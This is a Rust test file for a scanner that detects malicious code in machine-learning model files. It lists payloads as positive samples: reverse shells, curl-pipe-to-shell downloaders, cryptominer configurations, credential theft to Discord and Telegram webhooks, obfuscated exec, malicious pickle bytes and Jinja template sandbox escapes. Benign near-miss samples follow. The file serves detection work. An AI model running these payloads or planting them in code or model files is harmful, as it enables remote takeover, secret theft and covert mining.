//! The bundled pack on hand-written samples: every positive sample (Python source, strings as
//! recovered from a pickle, raw pickle bytes, shell one-liners, templates) matches its rule,
//! and benign near-misses of each category match nothing. The addresses are documentation
//! ranges (RFC 5737) unless a rule is about a reported indicator.

use std::collections::BTreeMap;
use trustscan_signatures::{CATEGORIES, Signatures};

/// (category, rule that must match, sample)
const POSITIVES: &[(&str, &str, &[u8])] = &[
    // ---------------------------------------------------------------- reverse-shell
    (
        "reverse-shell",
        "TS_RevShell_DevTcpRedirect",
        br#"import os
os.system("bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'")
"#,
    ),
    (
        "reverse-shell",
        "TS_RevShell_DevTcpRedirect",
        br#"subprocess.Popen(f"bash -i >& /dev/tcp/{HOST}/{PORT} 0>&1", shell=True)"#,
    ),
    (
        "reverse-shell",
        "TS_RevShell_DevTcpRedirect",
        // as recovered from a pickle's os.system argument
        b"/bin/sh -c 'exec 5<>/dev/tcp/198.51.100.23/9001; cat <&5 | while read l; do $l 2>&5 >&5; done'",
    ),
    (
        "reverse-shell",
        "TS_RevShell_NetcatExec",
        b"nc -e /bin/sh 198.51.100.23 9001",
    ),
    (
        "reverse-shell",
        "TS_RevShell_NetcatExec",
        br#"os.system("ncat --ssl 203.0.113.9 443 -e /bin/bash")"#,
    ),
    (
        "reverse-shell",
        "TS_RevShell_NetcatExec",
        br#"subprocess.call("nc.exe 203.0.113.5 4444 -e cmd.exe", shell=True)"#,
    ),
    (
        "reverse-shell",
        "TS_RevShell_NamedPipeRelay",
        b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
    ),
    (
        "reverse-shell",
        "TS_RevShell_PythonSocketShell",
        br#"python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/bash")'"#,
    ),
    (
        "reverse-shell",
        "TS_RevShell_PythonSocketShell",
        br#"import socket, subprocess

HOST, PORT = "203.0.113.7", 4444


def _warmup_cache():
    s = socket.socket()
    s.connect((HOST, PORT))
    subprocess.Popen(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())


class MyModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        _warmup_cache()
"#,
    ),
    (
        "reverse-shell",
        "TS_RevShell_PythonSocketShell",
        br#"import os, platform, socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.4", 8443))
if platform.system() == "Windows":
    subprocess.Popen(["cmd.exe"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
else:
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["/bin/sh", "-i"])
"#,
    ),
    (
        "reverse-shell",
        "TS_RevShell_PythonBindShell",
        br#"import os, socket, subprocess
srv = socket.socket()
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, _ = srv.accept()
for fd in (0, 1, 2):
    os.dup2(conn.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
"#,
    ),
    (
        "reverse-shell",
        "TS_RevShell_SocatExec",
        b"socat tcp-connect:203.0.113.7:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane",
    ),
    (
        "reverse-shell",
        "TS_RevShell_PowerShellTcpClient",
        br#"powershell -nop -c "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}""#,
    ),
    // ---------------------------------------------------------------- download-exec
    (
        "download-exec",
        "TS_DlExec_PipeToShell",
        br#"os.system("curl -fsSL http://203.0.113.7/x.sh | bash")"#,
    ),
    (
        "download-exec",
        "TS_DlExec_PipeToShell",
        b"wget -qO- https://cdn.example.net/s | sh",
    ),
    (
        "download-exec",
        "TS_DlExec_PipeToShell",
        br#"subprocess.run("curl -s https://198.51.100.9/i.py | python3 -", shell=True)"#,
    ),
    (
        "download-exec",
        "TS_DlExec_FetchChmodRun",
        b"curl -so /tmp/.x http://203.0.113.7/x && chmod +x /tmp/.x && /tmp/.x",
    ),
    (
        "download-exec",
        "TS_DlExec_PythonFetchExec",
        br#"import urllib.request
exec(urllib.request.urlopen("https://203.0.113.7/stage2.py").read())
"#,
    ),
    (
        "download-exec",
        "TS_DlExec_PythonFetchExec",
        br#"import requests

URL = "https://gist.githubusercontent.com/someone/abc/raw/patch.py"
code = requests.get(URL, timeout=5).text
exec(code, globals())
"#,
    ),
    (
        "download-exec",
        "TS_DlExec_PythonFetchExec",
        br#"exec(requests.get("https://pastebin.com/raw/abcd1234").text)"#,
    ),
    (
        "download-exec",
        "TS_DlExec_PythonFetchToBinaryRun",
        br#"import os, subprocess, urllib.request
dst = "/tmp/.cache_kernel"
urllib.request.urlretrieve("http://203.0.113.7/k", dst)
os.chmod(dst, 0o755)
subprocess.Popen([dst], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"#,
    ),
    (
        "download-exec",
        "TS_DlExec_PowerShellDownloadString",
        br#"powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')""#,
    ),
    (
        "download-exec",
        "TS_DlExec_PowerShellDownloadString",
        b"iwr -useb https://203.0.113.7/p.ps1 | iex",
    ),
    (
        "download-exec",
        "TS_DlExec_WindowsLolbinDownload",
        br"certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\a.exe && %TEMP%\a.exe",
    ),
    // ---------------------------------------------------------------- miner
    (
        "miner",
        "TS_Miner_XmrigCommandLine",
        br#"subprocess.Popen(["./xmrig", "-o", "pool.supportxmr.com:443", "-u", WALLET, "--donate-level=1", "--tls"])"#,
    ),
    (
        "miner",
        "TS_Miner_StratumUrl",
        br#"os.system("nohup ./kworker -o stratum+tcp://xmr.pool.example.org:3333 -u $W -p x -a rx/0 >/dev/null 2>&1 &")"#,
    ),
    (
        "miner",
        "TS_Miner_StratumUrl",
        b"stratum+ssl://eth.pool.example.com:5555",
    ),
    (
        "miner",
        "TS_Miner_XmrigConfig",
        br#"{"autosave": true, "donate-level": 0, "cpu": {"enabled": true, "max-threads-hint": 100},
 "pools": [{"url": "203.0.113.7:10128", "user": "WALLET", "coin": "monero", "tls": false}]}"#,
    ),
    (
        "miner",
        "TS_Miner_PoolHost",
        br#"POOL = "xmr-eu1.nanopool.org:14444""#,
    ),
    (
        "miner",
        "TS_Miner_PoolHost",
        br#"cmd = ["./t", "-o", "gulf.moneroocean.stream:10128"]"#,
    ),
    (
        "miner",
        "TS_Miner_XmrigCommandLine",
        b"./cpuminer -a ghostrider -o 203.0.113.7:3032 --cpu-priority 1",
    ),
    // ---------------------------------------------------------------- exfiltration
    (
        "exfiltration",
        "TS_Exfil_SecretsToDropChannel",
        br#"import os, requests
token = os.environ.get("HF_TOKEN") or open(os.path.expanduser("~/.cache/huggingface/token")).read()
requests.post("https://discord.com/api/webhooks/1234567890123/AbCdEfGhIjKlMnOpQrStUvWxYz012345", json={"content": token})
"#,
    ),
    (
        "exfiltration",
        "TS_Exfil_ChatWebhook",
        br#"requests.post("https://discord.com/api/webhooks/1234567890123/AbCdEfGhIjKlMnOpQrStUvWxYz012345", json={"content": "loaded"})"#,
    ),
    (
        "exfiltration",
        "TS_Exfil_SecretsToDropChannel",
        br#"import json, os, urllib.request
urllib.request.urlopen("http://198.51.100.23:8080/c", data=json.dumps(dict(os.environ)).encode())
"#,
    ),
    (
        "exfiltration",
        "TS_Exfil_SecretsToDropChannel",
        br#"key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
requests.post(f"https://api.telegram.org/bot{BOT}/sendMessage", data={"chat_id": CHAT, "text": key})
"#,
    ),
    (
        "exfiltration",
        "TS_Exfil_SecretsToDropChannel",
        br#"creds = pathlib.Path.home().joinpath(".aws/credentials").read_text()
requests.post("https://a1b2c3d4.ngrok-free.app/u", data=creds)
"#,
    ),
    (
        "exfiltration",
        "TS_Exfil_SecretsToDropChannel",
        br#"requests.post("https://webhook.site/0b0e6a1c-1111-2222-3333-444455556666", json={"t": os.getenv("OPENAI_API_KEY")})"#,
    ),
    (
        "exfiltration",
        "TS_Exfil_CredentialHarvest",
        br#"loot = {}
for p in ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.git-credentials", "~/.netrc"]:
    try:
        loot[p] = open(os.path.expanduser(p)).read()
    except OSError:
        pass
"#,
    ),
    // ---------------------------------------------------------------- obfuscated-exec
    (
        "obfuscated-exec",
        "TS_Obf_ExecOfDecodedData",
        br#"import base64
exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=="))
"#,
    ),
    (
        "obfuscated-exec",
        "TS_Obf_ExecOfDecodedData",
        br#"eval(compile(zlib.decompress(base64.b64decode(BLOB)), "<string>", "exec"))"#,
    ),
    (
        "obfuscated-exec",
        "TS_Obf_ExecOfDecodedData",
        br#"exec(marshal.loads(bytes.fromhex("e30000000000000000")))"#,
    ),
    (
        "obfuscated-exec",
        "TS_Obf_EncodedPythonPayload",
        br#"import base64
_k = "aW1wb3J0IHNvY2tldCxzdWJwcm9jZXNzLG9zCnM9c29ja2V0LnNvY2tldCgpCnMuY29ubmVjdCgoIjIwMy4wLjExMy43Iiw0NDQ0KSkK"
_c = base64.b64decode(_k)
exec(_c)
"#,
    ),
    (
        "obfuscated-exec",
        "TS_Obf_DynamicImportExec",
        br#"__import__('os').system('id > /tmp/pwned')"#,
    ),
    (
        "obfuscated-exec",
        "TS_Obf_DynamicImportExec",
        br#"getattr(__import__("builtins"), "exec")(payload)"#,
    ),
    (
        "obfuscated-exec",
        "TS_Obf_ImportOfDecoderByName",
        br#"exec(__import__('zlib').decompress(__import__('base64').b64decode(S)))"#,
    ),
    (
        "obfuscated-exec",
        "TS_Obf_CharCodeAssembly",
        br#"exec("".join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))"#,
    ),
    (
        "obfuscated-exec",
        "TS_Obf_CharCodeAssembly",
        br#"exec("\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x3b\x6f\x73")"#,
    ),
    (
        "obfuscated-exec",
        "TS_Obf_Rot13Exec",
        br#"import codecs
exec(codecs.decode('vzcbeg bf; bf.flfgrz("vq")', "rot13"))
"#,
    ),
    (
        "obfuscated-exec",
        "TS_Obf_PowerShellEncodedCommand",
        b"powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ),
    (
        "obfuscated-exec",
        "TS_Obf_KerasLambdaBytecode",
        br#"{"class_name": "Lambda", "config": {"name": "lambda", "function": ["4wEAAAAAAAAAAAAAAAEAAAAEAAAAQwAAAHMUAAAAZABkAWwAbQB9AQ==", null, null]}}"#,
    ),
    // ---------------------------------------------------------------- known-malicious
    (
        "known-malicious",
        "TS_Known_PickleReduceReverseShell",
        // protocol 2 pickle: builtins.exec applied to a connect-back shell (baller423 style)
        b"\x80\x02cbuiltins\nexec\nq\x00X\xa0\x00\x00\x00import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")q\x01\x85q\x02Rq\x03.",
    ),
    (
        "known-malicious",
        "TS_Known_PickleReduceReverseShell",
        // protocol 4 pickle: posix.system via STACK_GLOBAL on a /dev/tcp redirect
        b"\x80\x04\x95R\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c/bash -c 'bash -i >& /dev/tcp/203.0.113.7/4242 0>&1'\x94\x85\x94R\x94.",
    ),
    (
        "known-malicious",
        "TS_Known_PickleReduceDownloader",
        b"cos\nsystem\n(S'curl -s http://203.0.113.7/p.sh -o /tmp/p.sh; sh /tmp/p.sh'\ntR.",
    ),
    (
        "known-malicious",
        "TS_Known_ReportedC2Address",
        // platform-aware connect-back as recovered from a pickle (nullifAI-style indicator)
        br#"import os, socket, subprocess, platform
s = socket.socket(); s.connect(("107.173.7.141", 4444))
sh = "cmd.exe" if platform.system() == "Windows" else "/bin/sh"
"#,
    ),
    (
        "known-malicious",
        "TS_Known_JinjaTemplateSandboxEscape",
        br#"{% for message in messages %}{{ message['content'] }}{% endfor %}{{ cycler.__init__.__globals__.os.popen('id').read() }}"#,
    ),
    (
        "known-malicious",
        "TS_Known_JinjaTemplateSandboxEscape",
        br#"{"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}{% for m in messages %}{{ m.content }}{% endfor %}"}"#,
    ),
    (
        "known-malicious",
        "TS_Known_JinjaTemplateSandboxEscape",
        br#"{{ lipsum|attr('__globals__')|attr('__getitem__')('os') }}"#,
    ),
];

/// (category, sample): benign code that uses the same building blocks.
const NEAR_MISSES: &[(&str, &[u8])] = &[
    // ---------------------------------------------------------------- reverse-shell
    (
        "reverse-shell",
        br#"import socket, subprocess

def rendezvous(master_addr, master_port, payload):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect((master_addr, master_port))
    sock.sendall(payload)
    return sock.recv(1024)

def gpu_memory():
    out = subprocess.run(["nvidia-smi", "--query-gpu=memory.used", "--format=csv"], stdout=subprocess.PIPE)
    return out.stdout.decode()
"#,
    ),
    (
        "reverse-shell",
        br#"import os, subprocess, sys
devnull = open(os.devnull, "w")
os.dup2(devnull.fileno(), sys.stdout.fileno())
subprocess.run(["/bin/sh", "-c", "echo warmup"], check=False)
"#,
    ),
    (
        "reverse-shell",
        br#"server = socket.socket()
server.bind(("0.0.0.0", port))
server.listen(8)
conn, addr = server.accept()
data = conn.recv(4096)
subprocess.run(["nvidia-smi"], check=True)
"#,
    ),
    (
        "reverse-shell",
        b"until nc -z localhost 6379; do sleep 1; done  # wait for redis",
    ),
    // ---------------------------------------------------------------- download-exec
    (
        "download-exec",
        br#"import requests, torch
resp = requests.get(CONFIG_URL, timeout=10)
config = resp.json()
model = build(config)
model.eval()
with torch.no_grad():
    out = model(x)
"#,
    ),
    (
        "download-exec",
        b"# Download the weights:\n#   curl -L -o model.bin https://huggingface.co/org/model/resolve/main/model.bin\n#   wget https://example.org/data.tar.gz && tar xzf data.tar.gz\n",
    ),
    (
        "download-exec",
        br#"import urllib.request, os
path, _ = urllib.request.urlretrieve(VOCAB_URL, os.path.join(cache_dir, "vocab.txt"))
os.chmod(path, 0o644)
"#,
    ),
    (
        "download-exec",
        br#"from ast import literal_eval
text = requests.get(url).text
value = literal_eval(text)
"#,
    ),
    (
        "download-exec",
        br#"def update_command(method):
    if method == "installer":
        return ["bash", "-c", "curl -LsSf https://hf.co/cli/install.sh | bash -s -- --force"]
    # Windows: powershell -ExecutionPolicy ByPass -c "irm https://hf.co/cli/install.ps1 | iex"
    # Rust toolchain: curl https://sh.rustup.rs -sSf | sh -s -- -y
"#,
    ),
    // ---------------------------------------------------------------- miner
    (
        "miner",
        br#"from sklearn.model_selection import StratifiedKFold  # stratified sampling
with multiprocessing.Pool(4) as pool:
    results = pool.map(f, items)
"#,
    ),
    (
        "miner",
        b"python train.py --algo ppo --url http://localhost:8080 -o out.json  # T-Rex runner environment",
    ),
    (
        "miner",
        br#"{"pools": [{"kernel": 3, "stride": 2}], "algo": "adam", "donate": false}"#,
    ),
    // ---------------------------------------------------------------- exfiltration
    (
        "exfiltration",
        br#"import os, requests
token = os.environ.get("HF_TOKEN")
r = requests.get("https://huggingface.co/api/models/org/name", headers={"authorization": f"Bearer {token}"})
"#,
    ),
    (
        "exfiltration",
        br#"requests.post(os.environ["SLACK_WEBHOOK_URL"], json={"text": "training finished"})"#,
    ),
    (
        "exfiltration",
        br#"env = os.environ.copy()
env["HF_TOKEN"] = token
subprocess.run([sys.executable, "serve.py", "--url", "http://127.0.0.1:8000/v1", "--host", "http://0.0.0.0:7860/"], env=env)
"#,
    ),
    (
        "exfiltration",
        br#"ssh_key = os.path.expanduser("~/.ssh/id_ed25519.pub")  # deploy key for the dataset mirror"#,
    ),
    // ---------------------------------------------------------------- obfuscated-exec
    (
        "obfuscated-exec",
        br#"import base64, io
from PIL import Image
img = Image.open(io.BytesIO(base64.b64decode(data["image"])))
model.eval()
"#,
    ),
    (
        "obfuscated-exec",
        br#"import json, zlib
meta = json.loads(zlib.decompress(blob))
mod = __import__(name)
pattern = re.compile(r"\d+")
out = "".join(chr(ord(c) + 1) for c in text)
"#,
    ),
    (
        "obfuscated-exec",
        br#"# setup helper: read the version
version_ns = {}
exec(open("src/pkg/version.py").read(), version_ns)
value = ast.literal_eval(node)
"#,
    ),
    // ---------------------------------------------------------------- known-malicious
    (
        "known-malicious",
        // a protocol 2 torch pickle: only torch rebuild functions and OrderedDict
        b"\x80\x02}q\x00X\x06\x00\x00\x00weightq\x01ctorch._utils\n_rebuild_tensor_v2\nq\x02((X\x07\x00\x00\x00storageq\x03ctorch\nFloatStorage\nq\x04X\x01\x00\x00\x000q\x05X\x03\x00\x00\x00cpuq\x06K\x04tq\x07QK\x00K\x04\x85q\x08K\x01\x85q\tccollections\nOrderedDict\nq\n)Rq\x0btq\x0cRq\rs.",
    ),
    (
        "known-malicious",
        br#"{%- if messages[0]['role'] == 'system' %}{{- bos_token + messages[0]['content'] }}{%- endif %}{%- for message in messages %}{{- '<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>\n' }}{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\n' }}{%- endif %}{{ raise_exception('bad role') if false }}"#,
    ),
    (
        "known-malicious",
        br#"def resolve(cls):
    for base in cls.__mro__:
        if hasattr(base, "_tied_weights_keys"):
            return base
    return None
"#,
    ),
];

fn sigs() -> Signatures {
    Signatures::bundled().expect("the bundled pack compiles")
}

#[test]
fn every_positive_sample_matches_its_rule() {
    let s = sigs();
    let mut failures = Vec::new();
    for (i, (category, rule, sample)) in POSITIVES.iter().enumerate() {
        let matches = s.scan(sample);
        match matches.iter().find(|m| m.rule == *rule) {
            None => failures.push(format!(
                "#{i} {rule}: no match (got {:?}) in {:?}",
                matches.iter().map(|m| &m.rule).collect::<Vec<_>>(),
                String::from_utf8_lossy(sample)
            )),
            Some(m) => {
                if m.category != *category {
                    failures.push(format!(
                        "#{i} {rule}: category {} != {category}",
                        m.category
                    ));
                }
                if m.namespace != "trustscan" || m.description.is_empty() {
                    failures.push(format!("#{i} {rule}: bad metadata {m:?}"));
                }
                if m.excerpt.is_empty() || m.excerpt.chars().count() > 120 {
                    failures.push(format!("#{i} {rule}: bad excerpt {:?}", m.excerpt));
                }
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn every_category_has_three_positive_samples_and_every_rule_one() {
    let mut per_category: BTreeMap<&str, usize> = BTreeMap::new();
    for (category, _, _) in POSITIVES {
        *per_category.entry(category).or_default() += 1;
    }
    for category in CATEGORIES {
        let n = per_category.get(category).copied().unwrap_or(0);
        assert!(n >= 3, "{category}: only {n} positive samples");
    }
    for info in sigs().rules() {
        assert!(
            POSITIVES.iter().any(|(_, rule, _)| *rule == info.rule),
            "rule {} has no positive sample",
            info.rule
        );
    }
    for category in CATEGORIES {
        assert!(
            NEAR_MISSES.iter().filter(|(c, _)| c == category).count() >= 3,
            "{category}: fewer than three near-misses"
        );
    }
}

#[test]
fn the_precompiled_pack_is_the_pack_compiled_from_source() {
    let built = Signatures::bundled_precompiled().expect("the build's pack loads");
    let compiled = Signatures::bundled_from_source().expect("the pack compiles");
    assert_eq!(built.rules(), compiled.rules());
    let samples = POSITIVES
        .iter()
        .map(|(_, _, s)| *s)
        .chain(NEAR_MISSES.iter().map(|(_, s)| *s));
    for sample in samples {
        assert_eq!(
            built.scan(sample),
            compiled.scan(sample),
            "{}",
            String::from_utf8_lossy(sample)
        );
    }
}

#[test]
fn near_misses_match_nothing() {
    let s = sigs();
    let mut failures = Vec::new();
    for (i, (category, sample)) in NEAR_MISSES.iter().enumerate() {
        let matches = s.scan(sample);
        if !matches.is_empty() {
            failures.push(format!(
                "#{i} ({category}): {:?}",
                matches
                    .iter()
                    .map(|m| format!("{} at {}: {}", m.rule, m.offset, m.excerpt))
                    .collect::<Vec<_>>()
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn the_pack_follows_the_metadata_convention() {
    let s = sigs();
    let rules = s.rules();
    assert_eq!(rules.len(), s.len());
    assert!(s.len() >= 20, "{}", s.len());
    for r in &rules {
        assert_eq!(r.namespace, "trustscan");
        assert!(r.rule.starts_with("TS_"), "{}", r.rule);
        assert!(
            ["high", "medium", "low"].contains(&r.severity_text.as_str()),
            "{}: severity {:?}",
            r.rule,
            r.severity_text
        );
        assert!(
            CATEGORIES.contains(&r.category.as_str()),
            "{}: {}",
            r.rule,
            r.category
        );
        assert!(r.description.len() > 20, "{}", r.rule);
    }
}

#[test]
fn the_pack_compiles_without_warnings() {
    let w = trustscan_signatures::bundled_warnings();
    assert!(w.is_empty(), "{}", w.join("\n"));
}

#[test]
fn signatures_can_be_shared_across_threads() {
    fn assert_sync<T: Send + Sync>() {}
    assert_sync::<Signatures>();
    let s = sigs();
    std::thread::scope(|scope| {
        for _ in 0..2 {
            scope.spawn(|| {
                let m = s.scan(b"nc -e /bin/sh 198.51.100.23 9001");
                assert_eq!(m.len(), 1);
            });
        }
    });
}

#[test]
fn matches_report_offset_and_excerpt_of_the_first_match() {
    let s = sigs();
    let data = b"x = 1\n# padding\nos.system(\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\")\n";
    let m = s.scan(data);
    assert_eq!(m.len(), 1, "{m:?}");
    let at = data
        .windows(9)
        .position(|w| w == b"/dev/tcp/")
        .expect("sample has /dev/tcp/");
    assert_eq!(m[0].offset, at);
    assert_eq!(m[0].severity, trustscan_core::Level::High);
    assert!(
        m[0].excerpt.contains("/dev/tcp/203.0.113.7/4444"),
        "{}",
        m[0].excerpt
    );
    assert!(
        m[0].excerpt.starts_with("x = 1\\n# padding\\nos.system("),
        "{}",
        m[0].excerpt
    );
}

#[test]
fn secrets_and_channels_far_apart_in_a_large_file_do_not_match() {
    // A library documenting a request-capture site in one docstring and reading HF_TOKEN
    // elsewhere (huggingface_hub's hf_api.py does both, 40 KB apart).
    let mut data = b"def whoami():\n    token = os.environ.get(\"HF_TOKEN\")\n".to_vec();
    data.extend(b"    x = compute(x)  # filler line of an unrelated large module\n".repeat(600));
    data.extend(
        b"def create_webhook(url):\n    \"\"\"url: e.g. https://webhook.site/your-id\"\"\"\n",
    );
    assert!(data.len() > 16 * 1024);
    let s = sigs();
    assert!(s.scan(&data).is_empty(), "{:?}", s.scan(&data));
    // The same pair within a few lines matches, in a file of any size.
    let mut close = data.clone();
    close.extend(
        b"requests.post(\"https://webhook.site/abc\", data=os.environ.get(\"HF_TOKEN\"))\n",
    );
    let m = s.scan(&close);
    assert!(
        m.iter().any(|m| m.rule == "TS_Exfil_SecretsToDropChannel"),
        "{m:?}"
    );
}

#[test]
fn the_offset_points_at_the_main_pattern_not_at_context() {
    // "/bin/sh" (a context pattern) comes first; the reported match is the connect call.
    let data = br#"SHELL = "/bin/sh"
s = socket.socket()
s.connect(("203.0.113.7", 4444))
os.dup2(s.fileno(), 0)
"#;
    let m = sigs().scan(data);
    assert_eq!(m.len(), 1, "{m:?}");
    assert_eq!(m[0].rule, "TS_RevShell_PythonSocketShell");
    assert!(m[0].excerpt.contains(".connect((") || data[m[0].offset..].starts_with(b".connect(("));
    assert_eq!(&data[m[0].offset..m[0].offset + 10], b".connect((");
}
